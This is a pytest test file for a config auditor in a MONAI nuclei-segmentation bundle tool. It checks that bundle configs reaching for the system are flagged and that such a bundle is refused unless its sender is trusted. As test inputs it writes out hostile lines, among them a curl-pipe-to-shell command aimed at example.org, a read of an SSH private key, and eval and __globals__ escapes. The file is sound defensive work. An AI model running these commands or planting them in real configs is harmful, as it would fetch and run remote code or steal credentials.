"""What a bundle's configs would run, read before any of it runs: the shipped configs pass, configs that reach for
the system are named by file and key, and a sealed bundle with them is refused unless the sender is trusted."""

import json
import logging
import shutil
from pathlib import Path

import pytest
import torch

from nucleiseg_monai import cli, packaging
from nucleiseg_monai.config_audit import audit, expression_problems, target_problem
from nucleiseg_monai.networks import UNet

REPO = Path(__file__).resolve().parents[1]
BUNDLES = sorted((REPO / "bundles").glob("*/configs/metadata.json"))


@pytest.mark.parametrize("bundle", [m.parents[1] for m in BUNDLES], ids=lambda p: p.name)
def test_the_shipped_bundles_configs_use_nothing_beyond_a_bundles_needs(bundle):
    assert BUNDLES and audit(bundle) == []


@pytest.mark.parametrize("expression, said", [
    ('os.system("curl x | sh")', "os.system reaches the system beyond paths"),
    ("import subprocess", "subprocess is outside the modules a bundle uses"),
    ('__import__("os")', "calls or reads __import__"),
    ('open("/home/me/.ssh/id_rsa").read()', "calls or reads open"),
    ('eval("1")', "calls or reads eval"),
    ('getattr(torch, "os")', "calls or reads getattr"),
    ("@network_def.__class__.__init__.__globals__", "reads the private attribute .__globals__"),
    ('torch.os.system("x")', "torch.os.system reaches os, system through torch"),
    ('monai.utils.optional_import("subprocess")', "monai.utils.optional_import reaches optional_import"),
    ('@network.os.system("x")', "reaches os, system through"),
    ('torch.hub.load("someone/repo", "model")', "torch.hub.load fetches or runs code from elsewhere"),
    ('monai.bundle.download("x")', "monai.bundle.download fetches or runs code from elsewhere"),
    ("torch.load(@ckpt_path, weights_only=False)", "loads with weights_only=False, which can run code"),
    ("numpy.load(@path, allow_pickle=True)", "loads with allow_pickle=True, which can run code"),
    ("os.system(", "is not Python MONAI could evaluate"),
])
def test_expressions_that_reach_beyond_a_bundles_needs_are_named(expression, said):
    assert any(said in problem for problem in expression_problems(expression)), expression_problems(expression)


@pytest.mark.parametrize("expression", [
    "import torch.distributed as dist",
    "os.path.join(@bundle_root, 'models', 'model.pt')",
    "torch.device('cuda:' + os.environ['LOCAL_RANK']) if torch.cuda.is_available() else torch.device('cpu')",
    "sorted({r['source'] for r in @validate#records})",
    "lambda engine: engine.state.epoch % 2 == 0",
    "nucleiseg_monai.transforms.train_transforms(@channel_stats['mean'], @channel_stats['std'], @patch_size)",
    "@train#trainer.run()",
    "torch.load(@ckpt_path, weights_only=True)",
])
def test_what_bundles_do_passes(expression):
    assert expression_problems(expression) == []


@pytest.mark.parametrize("target, said", [
    ("SupervisedTrainer", None),
    ("nucleiseg_monai.networks.UNet", None),
    ("torch.optim.AdamW", None),
    ("run_cmd", "run_cmd runs commands or builds objects from strings"),
    ("os.system", "os.system reaches the system beyond paths"),
    ("subprocess.run", "subprocess.run is outside the modules a bundle uses"),
    ("monai.utils.instantiate", "reaches instantiate through monai"),
])
def test_targets_are_judged_like_expressions(target, said):
    problem = target_problem(target)
    assert problem == said if said is None else said in problem


def _sealed(tmp_path: Path, change) -> Path:
    """A small bundle with the real configs, one of them changed by ``change``, sealed with a manifest."""
    source = REPO / "bundles" / "nuclei_unet_small"
    bundle = tmp_path / "sent"
    (bundle / "configs").mkdir(parents=True)
    for name in ("metadata.json", "train.json", "inference.json"):
        shutil.copy(source / "configs" / name, bundle / "configs" / name)
    train = json.loads((bundle / "configs" / "train.json").read_text())
    change(train)
    (bundle / "configs" / "train.json").write_text(json.dumps(train, indent=4))
    (bundle / "models").mkdir()
    torch.save(UNet(features=(4, 8)).state_dict(), bundle / "models" / "model.pt")
    (bundle / "LICENSE").write_text("Apache-2.0\n")
    packaging.write_manifest(bundle)
    return bundle


def _add_shell_command(train: dict) -> None:
    train["initialize"].insert(1, "$os.system('curl https://example.org/x | sh')")
    train["train"]["handlers"][0]["_target_"] = "subprocess.Popen"


def test_a_sealed_bundle_whose_configs_run_commands_is_refused_unless_trusted(tmp_path, monkeypatch):
    bundle = _sealed(tmp_path, _add_shell_command)
    assert packaging.verify(bundle) == []  # its files are those the sender sealed
    found = sorted(audit(bundle))
    assert len(found) == 2
    assert found[0].startswith("configs/train.json: initialize#1: \"$os.system('curl https://example.org/x | sh')\"")
    assert found[1].startswith("configs/train.json: train#handlers#0#_target_: 'subprocess.Popen'")
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    with pytest.raises(packaging.BundleIntegrityError, match=f"with {packaging.TRUST_ENV}=1 set") as info:
        packaging.check_bundle(bundle)
    assert "os.system reaches the system beyond paths" in str(info.value)
    monkeypatch.setenv(packaging.TRUST_ENV, "1")
    packaging.check_bundle(bundle)  # the receiver read them and trusts the sender


def test_unpack_names_such_configs_and_a_plain_bundle_passes(tmp_path, caplog, monkeypatch):
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    plain = _sealed(tmp_path / "a", lambda train: None)
    packaging.check_bundle(plain)
    bundle = _sealed(tmp_path / "b", _add_shell_command)
    (bundle / "manifest.json").unlink()  # a working copy: packed as its author wants, with a warning
    with caplog.at_level(logging.WARNING, logger="nucleiseg_monai.packaging"):
        zip_path = packaging.pack(bundle, tmp_path / "sent.zip")
        dest = packaging.unpack(zip_path, tmp_path / "received" / "sent")
    packed, unpacked = [r.getMessage() for r in caplog.records if "os.system" in r.getMessage()]
    assert "receivers will see this when they unpack it" in packed
    assert unpacked.startswith(f"{dest}: its configs reach beyond what a bundle needs, read those lines: ")
    with pytest.raises(packaging.BundleIntegrityError):
        packaging.check_bundle(dest)


def test_verify_prints_what_the_configs_reach_for_and_fails(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv(packaging.TRUST_ENV, raising=False)
    assert cli.main(["verify", "--bundle", str(_sealed(tmp_path / "a", lambda train: None))]) == 0
    assert "they call only this package, MONAI, torch, ignite, numpy and paths" in capsys.readouterr().out
    assert cli.main(["verify", "--bundle", str(_sealed(tmp_path / "b", _add_shell_command))]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("config: configs/train.json: ") and "os.system" in out[0] + out[1]
    assert out[2:] == ["bundle matches its manifest", "its configs reach beyond what a bundle needs (2 line(s) above): "
                       f"read them; nucleiseg runs it only with {packaging.TRUST_ENV}=1 set, which says you trust "
                       "whoever sent it"]
